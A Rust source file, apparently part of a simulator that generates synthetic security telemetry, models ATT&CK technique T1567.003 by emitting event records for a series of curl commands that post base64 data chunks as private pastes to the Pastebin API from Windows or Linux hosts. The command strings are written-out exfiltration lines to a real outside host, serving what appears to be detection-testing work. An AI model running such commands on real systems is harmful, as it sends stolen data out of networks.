//! T1567.003 to a text-storage site: many small pastes through the pastebin API.

use super::{meta, pick_host, shell, tool, work_time, Meta, Window};
use crate::activity::Http;
use crate::clock::SEC;
use crate::scene::Scene;
use crate::world::Os;

pub fn pastebin(sc: &mut Scene, win: Window) -> Option<Meta> {
    let os = if sc.rng.chance(0.5) {
        Os::Windows
    } else {
        Os::Linux
    };
    let h = pick_host(sc, os, &[]).or_else(|| pick_host(sc, Os::Windows, &[]))?;
    let t = work_time(sc, win, crate::clock::HOUR);
    let key = sc.rng.hex(32);
    let sh = shell(sc, h, t, false);
    let n = sc.rng.range(6, 16);
    let linux = sc.w.hosts[h].os == Os::Linux;
    for i in 0..n {
        let at = t + i as i64 * sc.rng.range(40, 200) as i64 * SEC;
        let (image, cmd, ofn) = if linux {
            (
                "/usr/bin/curl",
                format!("curl -s -d api_dev_key={key} -d api_option=paste -d api_paste_private=1 --data-urlencode api_paste_code@/tmp/.p/{i:02}.b64 https://pastebin.com/api/api_post.php"),
                None,
            )
        } else {
            (
                "C:\\Windows\\System32\\curl.exe",
                format!("curl.exe -s -d api_dev_key={key} -d api_option=paste -d api_paste_private=1 --data-urlencode api_paste_code@C:\\Users\\Public\\p{i:02}.b64 https://pastebin.com/api/api_post.php"),
                Some("curl.exe"),
            )
        };
        let p = tool(sc, h, at, &sh, image, &cmd, ofn);
        let bytes = sc.rng.range(80_000, 512_000);
        let http = Http {
            method: "POST",
            path: "/api/api_post.php".into(),
            user_agent: "curl/8.5.0".into(),
            content_type: "application/x-www-form-urlencoded",
            upload_name: None,
        };
        sc.upload(
            at + SEC,
            h,
            &p,
            "pastebin.com",
            bytes,
            1,
            0,
            Some(http),
            443,
        );
    }
    Some(meta(
        sc,
        h,
        format!("{n} private pastes of base64 chunks through the pastebin API"),
        "T1567.003",
        "curl",
        "paste-site",
        "pastebin.com",
        "Pastebin",
    ))
}
